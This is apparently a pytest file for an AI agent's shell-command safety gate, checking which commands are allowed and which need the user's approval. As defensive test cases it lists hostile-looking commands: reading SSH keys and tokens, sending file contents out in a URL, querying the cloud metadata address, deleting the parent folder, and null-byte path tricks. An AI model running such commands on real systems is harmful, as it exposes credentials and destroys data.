"""Rules that look at the files of this machine: links, patterns, folders with keys, and repositories that are traps."""

from collections.abc import Callable
from pathlib import Path
from tempfile import NamedTemporaryFile

import pytest

from hermes.protocol.actions import Origin, RunCommand
from hermes.safety.places import Places
from tests.safety.scene import ORIGIN, WORKSPACE, judge, make_gate, real_places

Decide = Callable[[str], str]


@pytest.fixture
def scene(tmp_path: Path) -> tuple[Places, Path]:
    return real_places(tmp_path)


@pytest.fixture
def workspace(scene: tuple[Places, Path]) -> Path:
    return scene[1]


@pytest.fixture
def decide(scene: tuple[Places, Path]) -> Decide:
    places, workspace = scene
    origin = Origin(surface="cli", session="one", workspace=str(workspace))
    gate = make_gate(places=places)
    return lambda command: gate.judge(RunCommand(command, str(workspace)), origin).decision


def test_a_link_is_judged_by_where_it_leads(workspace: Path, decide: Decide) -> None:
    home = workspace.parent
    (home / ".ssh").mkdir()
    (home / ".ssh" / "config").touch()
    (workspace / "settings").symlink_to(home / ".ssh" / "config")
    (workspace / "out").symlink_to(home / "elsewhere")
    assert [decide("cat settings"), decide("echo x > out"), decide("echo x > out/file")] == ["ask", "ask", "ask"]


def test_a_link_that_the_same_command_makes_is_followed_too(decide: Decide) -> None:
    assert decide("ln -s ~/.hermes/config.yaml c && echo x > c") == "ask"
    assert decide("ln -s ../.. up; touch up/x") == "ask"
    assert decide("ln -s src s; touch s/x") == "allow"


def test_patterns_for_names_are_looked_up(workspace: Path, decide: Decide) -> None:
    (workspace / "a.py").touch()
    (workspace / ".npmrc").touch()
    (workspace / "keys").mkdir()
    (workspace / "keys" / "id_rsa").touch()
    assert [decide("cat *.py"), decide("ls *"), decide("cat *.nothing")] == ["allow", "allow", "allow"]
    assert [decide("cat .n*"), decide("cat keys/*"), decide("cat keys/?d_rsa")] == ["ask", "ask", "ask"]


def test_a_folder_with_keys_in_it_is_not_searched_unasked(workspace: Path, decide: Decide) -> None:
    (workspace / "web").mkdir()
    (workspace / "web" / ".npmrc").touch()
    assert [decide("grep -r x web"), decide("rg x web"), decide("tar cf x.tar web")] == ["ask", "ask", "ask"]
    (workspace / "web" / ".npmrc").unlink()
    assert decide("grep -r x web") == "allow"


def test_a_repository_that_a_few_written_files_make_is_not_looked_at(workspace: Path, decide: Decide) -> None:
    (workspace / "sub" / "deep").mkdir(parents=True)
    assert decide("git -C sub/deep status") == "allow"
    for name in ("objects", "refs"):
        (workspace / "sub" / name).mkdir()
    (workspace / "sub" / "HEAD").write_text("ref: refs/heads/main")
    assert [decide("git -C sub status"), decide("git -C sub/deep log"), decide("cd sub && git log")] == ["ask"] * 3
    assert decide("git status") == "allow"


def test_a_branch_that_is_a_file_is_a_file(workspace: Path, decide: Decide) -> None:
    assert decide("git checkout notes") == "allow"
    (workspace / "notes").touch()
    assert decide("git checkout notes") == "ask"


def test_an_interpreter_of_a_virtual_environment_is_the_projects_own(workspace: Path, decide: Decide) -> None:
    (workspace / ".venv" / "bin").mkdir(parents=True)
    (workspace / ".venv" / "bin" / "python").symlink_to("/usr/bin/python3")
    assert decide(".venv/bin/python -m pytest") == "allow"
    assert decide(".venv/bin/python -m pip install x") == "ask"


def test_what_lies_in_the_temporary_folder_is_not_overwritten_unasked(decide: Decide) -> None:
    assert decide("echo x > /tmp/a-name-that-nobody-has-taken") == "allow"
    with NamedTemporaryFile(dir="/tmp") as there:
        assert decide(f"echo x > {there.name}") == "ask"


@pytest.mark.parametrize("command", ["git status", "touch a", "echo x > a", "make", "rm a"])
def test_without_a_working_folder_nothing_is_inside_it(command: str) -> None:
    assert judge(command, origin=Origin(surface="cli", session="one")).decision == "ask"


@pytest.mark.parametrize("command", ["git status", "touch a", "make", "./run.sh", "python -m thing"])
def test_elsewhere_a_project_is_not_trusted(command: str) -> None:
    assert judge(command, cwd="/srv/other").decision == "ask"


def test_other_machines_are_judged_by_the_words_alone() -> None:
    gate = make_gate()
    assert gate.judge(RunCommand("cat src/x.py", WORKSPACE, "ssh"), ORIGIN).decision == "allow"
    assert gate.judge(RunCommand("cat ~/.ssh/id_rsa", WORKSPACE, "ssh"), ORIGIN).decision == "ask"


def test_a_folder_that_holds_the_working_folder_is_not_scratch(workspace: Path, decide: Decide) -> None:
    assert "allow" not in (decide(f"rm -rf {workspace.parent}"), decide("rm -rf $PWD/.."))


def test_a_project_elsewhere_is_not_built_or_run_unasked(decide: Decide) -> None:
    assert [decide("cd /tmp/other && npm test"), decide("npm --prefix /tmp/other test")] == ["ask", "ask"]
    assert [decide("cd web && npm test"), decide("npm --prefix web test")] == ["allow", "allow"]


@pytest.mark.parametrize(
    ("command", "decision", "rule"),
    [
        ("echo $GITHUB_TOKEN", "ask", "credentials"),
        ("echo ${GITHUB_TOKEN:+is set}", "allow", "reads"),
        ('[ -n "$GITHUB_TOKEN" ] && echo set', "allow", "reads"),
        ("GITHUB_TOKEN=x; echo $GITHUB_TOKEN", "allow", "reads"),
        ("env | grep -i token", "ask", "credentials"),
        ("env | grep -i path", "allow", "reads"),
        ("docker run --rm -e K=$API_KEY alpine true", "ask", "credentials"),
    ],
)
def test_a_variable_that_holds_a_key_by_its_name_is_not_shown(command: str, decision: str, rule: str) -> None:
    verdict = judge(command)
    assert (verdict.decision, verdict.rule) == (decision, rule)


def test_what_git_starts_is_judged_like_any_command() -> None:
    started = ["git bisect run {}", "git submodule foreach {}", "git rebase --exec '{}' main"]
    assert [judge(text.format("make test")).decision for text in started] == ["allow"] * 3
    assert [judge(text.format("rm -rf src")).decision for text in started] == ["ask"] * 3


def test_python_may_fetch_a_page_and_nothing_more() -> None:
    page = "import requests; print(requests.get('https://example.com/a').text)"
    assert judge(f'python -c "{page}"').decision == "allow"
    for worse in (
        "import requests; requests.get('https://example.com/' + open('a').read())",
        "import requests; requests.get('https://example.com', headers={'a': 'b'})",
        "import requests; requests.get('https://example.com'); requests.post('https://example.com')",
        "import requests; g = requests; g.post('https://example.com')",
        "import requests; requests.get('http://169.254.169.254/latest')",
    ):
        assert judge(f'python -c "{worse}"').decision == "ask", worse


def test_what_no_system_can_look_up_has_a_verdict_too(decide: Decide) -> None:
    for command in ("cat /\0etc/*", "ls a\0b/*", *(f"cat /proc/1/{link}/etc/*" for link in ("root", "cwd"))):
        assert decide(command) == "ask", command
